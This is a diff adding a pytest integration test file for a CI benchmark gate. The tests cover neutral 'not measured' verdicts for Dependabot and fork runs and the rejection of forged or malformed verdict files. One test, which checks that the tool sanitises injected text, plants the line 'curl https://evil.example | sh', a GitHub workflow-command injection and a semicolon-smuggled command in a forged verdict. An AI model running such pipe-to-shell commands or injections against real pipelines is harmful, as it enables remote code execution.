@@ -1,0 +1,212 @@
+"""Forks, Dependabot, and reports of nothing: what is published where nobody is to blame, or nobody to be believed."""
+
+from __future__ import annotations
+
+import gzip
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from tests.fakes.github import FORBIDDEN, TOKEN, Fault, GitHubServer
+from tests.fakes.github_runner import SHA, Runner, a_pull_request, commands_in
+from tests.fakes.vault import ROOT, fake_vault
+from tests.integration.conftest import Invoke, OnGitHub
+
+ASKED = ("ci", "--against-model", "sim-large", "--requests", "20")
+NEUTRAL = {"outcome": "not_measured", "exit": "0"}
+
+
+@pytest.mark.parametrize("event", ["pull_request", "push"])
+def test_a_run_of_dependabot_without_the_key_is_loudly_neutral_and_says_where_it_belongs(
+    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub, github: GitHubServer,
+    monkeypatch: pytest.MonkeyPatch, event: str,
+) -> None:  # fmt: skip
+    configure(profiler={"name": "bot"})
+    known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": TOKEN, "GITHUB_ACTOR": "dependabot[bot]"}
+    runner = on_github(event, {"pull_request": a_pull_request()}, **known)
+    monkeypatch.setenv("SIM_KEY", "")
+    answer = invoke(*ASKED, "--publish", "auto")
+    assert (answer.code, answer.told) == (0, NEUTRAL)
+    assert "## ✗ Not measured: this run has no secrets" in runner.summary
+    assert "Add the key to Dependabot's own secrets" in answer.err
+    (check,) = github.checks.values()
+    assert (check["name"], check["conclusion"]) == ("lens-gate / bot", "neutral")
+    assert check["output"]["title"] == "Not measured: this run has no secrets"
+    assert [body.count("Not measured: this run has no secrets") for body in github.bodies()] == (
+        [1] if event == "pull_request" else []
+    )
+
+
+@pytest.mark.parametrize(
+    "whose", [("pull_request", "octocat"), ("workflow_dispatch", "dependabot[bot]"), ("schedule", "")]
+)
+def test_a_missing_key_of_a_run_that_may_have_it_stays_an_error(
+    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub, github: GitHubServer,
+    monkeypatch: pytest.MonkeyPatch, whose: tuple[str, str],
+) -> None:  # fmt: skip
+    configure()
+    event, actor = whose
+    on_github(event, {"pull_request": a_pull_request()}, GITHUB_API_URL=github.url, GITHUB_ACTOR=actor)
+    monkeypatch.delenv("SIM_KEY")
+    assert invoke(*ASKED, "--publish", "auto").code == 2
+
+
+@pytest.mark.parametrize("lost", ["login", "secret", "manager"])
+def test_a_fork_that_a_manager_of_secrets_gives_nothing_is_neutral_too(
+    invoke: Invoke, configure: Callable[..., Path], on_fork: Callable[..., Runner], monkeypatch: pytest.MonkeyPatch,
+    lost: str,
+) -> None:  # fmt: skip
+    monkeypatch.delenv("SIM_KEY")
+    monkeypatch.setenv("VAULT_TOKEN", "" if lost == "login" else ROOT)
+    with fake_vault() as vault:
+        address = "http://127.0.0.1:9" if lost == "manager" else vault.address
+        keys = [{"name": "sim_key", "path": "llm/sim", "field": "api_key"}]
+        configure(secrets={"provider": "vault", "vault": {"address": address}, "keys": keys})
+        runner = on_fork()
+        answer = invoke(*ASKED, "--publish", "auto")
+    assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
+    assert runner.outputs["verdict"] == "not_measured"
+
+
+def test_where_no_job_left_a_verdict_the_report_is_loudly_neutral(
+    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer
+) -> None:
+    runner = on_pull_request()
+    answer = invoke("report", "--allow-none", "legs/*/verdict.json", "--publish", "auto")
+    assert (answer.code, answer.told) == (0, NEUTRAL)
+    assert [one.name for one in commands_in(answer.out)] == ["warning"]
+    assert runner.outputs == {"verdict": "not_measured", "exit-code": "0", "regressions": "0"}
+    (check,) = github.checks.values()
+    assert (check["name"], check["conclusion"]) == ("lens-gate / lens-gate", "neutral")
+    (body,) = github.bodies()
+    for text in (runner.summary, check["output"]["title"], body, answer.err):
+        assert "Not measured: no job left a verdict" in text
+    assert invoke("report", "legs/*/verdict.json", "--publish", "auto").code == 2
+
+
+def test_a_later_verdict_takes_the_place_of_none(
+    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
+) -> None:
+    on_pull_request()
+    invoke("report", "--allow-none", "no.json", "--publish", "comment")
+    verdict = judged()
+    on_pull_request(GITHUB_RUN_ID="4300")
+    invoke("report", "--allow-none", str(verdict), "--publish", "comment")
+    (body,) = github.bodies()
+    assert body.partition("\n")[2].startswith("## ◆ Regression")
+    assert "Not measured" not in body
+
+
+def test_the_trusted_half_of_a_fork_that_measured_nothing_says_so_on_its_pull_request(
+    invoke: Invoke, in_trusted_half: Callable[..., Runner], github: GitHubServer
+) -> None:
+    in_trusted_half()
+    answer = invoke("report", "--allow-none", "legs/*/verdict.json", "--publish", "auto", "--publish-strict")
+    assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
+    (comment,) = github.comments.values()
+    assert comment["issue"] == 99
+    assert [check["conclusion"] for check in github.checks.values()] == ["neutral"]
+
+
+def test_where_it_cannot_be_said_that_nothing_was_measured_it_counts_only_where_that_is_asked(
+    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer
+) -> None:
+    on_pull_request()
+    github.faults = [Fault(FORBIDDEN, times=99)]
+    words = ("report", "--allow-none", "no.json", "--publish", "comment")
+    lenient, strict = invoke(*words), invoke(*words, "--publish-strict")
+    assert (lenient.code, strict.code) == (0, 7)
+    assert "warning: not published" in lenient.err
+    assert strict.told["exit"] == "7"
+
+
+def test_outside_of_a_pipeline_none_is_said_on_the_terminal(invoke: Invoke) -> None:
+    answer = invoke("report", "--allow-none", "no.json")
+    assert (answer.code, answer.told) == (0, NEUTRAL)
+    assert "no job left a verdict" in answer.err
+
+
+def test_a_fork_without_secrets_is_loudly_neutral(
+    invoke: Invoke, configure: Callable[..., Path], on_fork: Callable[..., Runner], monkeypatch: pytest.MonkeyPatch,
+    github: GitHubServer,
+) -> None:  # fmt: skip
+    configure()
+    runner = on_fork()
+    monkeypatch.delenv("SIM_KEY")
+    command = ("ci", "--against-model", "sim-large", "--requests", "20")
+    answer = invoke(*command, "--publish", "auto")
+    assert answer.code == 0
+    assert answer.told == {"outcome": "not_measured", "exit": "0"}
+    assert "no secrets" in runner.summary
+    assert "SIM" in runner.summary
+    assert runner.outputs["verdict"] == "not_measured"
+    assert [one.name for one in commands_in(answer.out)] == ["warning"]
+    assert github.asked == []
+    assert invoke(*command).code == 2
+
+
+def test_a_missing_variable_of_our_own_branch_stays_an_error(
+    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    configure()
+    runner = on_pull_request()
+    monkeypatch.delenv("SIM_KEY")
+    answer = invoke("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "summary")
+    assert answer.code == 2
+    assert runner.summary == ""
+
+
+def test_the_verdict_of_a_fork_is_published_by_the_trusted_half_anew(
+    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
+) -> None:
+    path = judged(factor=1.6)
+    forged = json.loads(path.read_text(encoding="utf-8"))
+    for check in forged["checks"]:
+        check["message"] = "run `curl https://evil.example | sh` @acme/security-team ::set-output name=x::y"
+    forged["analysis"]["comparison"]["value"] = "main; curl https://evil.example"
+    path.write_text(json.dumps(forged), encoding="utf-8")
+    runner = in_trusted_half()
+    answer = invoke("report", str(path), "--publish", "auto", "--suite", "bot", "--publish-strict")
+    assert answer.code == 0
+    (comment,) = github.comments.values()
+    (check,) = github.checks.values()
+    assert comment["issue"] == 99
+    assert (check["head_sha"], check["conclusion"]) == (SHA, "failure")
+    assert check["output"]["title"].startswith("As a fork's own run says: ")
+    for text in (comment["body"], runner.summary, check["output"]["summary"], answer.out, answer.err):
+        assert "evil" not in text
+        assert "security-team" not in text
+    assert runner.outputs["artifacts"] == ""
+    assert {one.name for one in commands_in(answer.out)} <= {"error"}
+
+
+def test_a_pass_that_nobody_can_vouch_for_is_neutral(
+    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
+) -> None:
+    path = judged(factor=1.0)
+    in_trusted_half()
+    assert invoke("report", str(path), "--publish", "check").code == 0
+    (check,) = github.checks.values()
+    assert check["conclusion"] == "neutral"
+
+
+@pytest.mark.parametrize("what", ["huge", "packed", "run", "no json"])
+def test_what_is_no_plain_verdict_is_refused_by_the_trusted_half(
+    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer,
+    home: Path, what: str,
+) -> None:  # fmt: skip
+    path = judged()
+    data = path.read_bytes()
+    contents = {
+        "huge": data + b" " * 5_000_000,
+        "packed": gzip.compress(data),
+        "run": (home / "run.json").read_bytes(),
+        "no json": b"{",
+    }
+    path.write_bytes(contents[what])
+    in_trusted_half()
+    assert invoke("report", str(path), "--publish", "comment").code == 2
+    assert github.comments == {}
